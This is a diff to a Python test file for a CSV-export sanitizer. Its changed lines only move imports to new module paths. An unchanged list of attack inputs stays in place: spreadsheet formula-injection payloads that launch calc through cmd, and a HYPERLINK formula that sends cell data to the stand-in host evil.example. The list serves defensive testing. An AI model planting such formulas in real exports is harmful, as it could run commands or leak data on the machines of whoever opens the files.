@@ -20,10 +20,10 @@ from workbench import cli
 from workbench import report as rep
 from workbench.csvsafe import FORMULA_STARTS, PLAIN_NUMBER, neutral_cell, neutralize, safe_csv
 from workbench.report import html as page_html
-from workbench.report.output import css_loads, strip_loading_styles
-from workbench.runmeta import RunMeta
+from workbench.notebook_path import css_loads, strip_loading_styles
+from workbench.results.meta import RunMeta
 from workbench.studies import Summary
-from workbench.studies.tables import write_study_table
+from workbench.results.tables import write_study_table
 
 ATTACKS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', " =1+1",
@@ -141,7 +141,7 @@ def evil_study(name: str = "demo") -> SimpleNamespace:
 
 
 def test_every_csv_of_the_report_is_neutralized(tmp_path):
-    from workbench.runstate import RunFolder
+    from workbench.results.folder import RunFolder
 
     for name, started, scale in (("old", "2030-01-01T00:00:00.000Z", 1.0), ("new", "2030-01-02T00:00:00.000Z", 2.0)):
         meta = RunMeta.collect({"studies": {"demo": {}}})
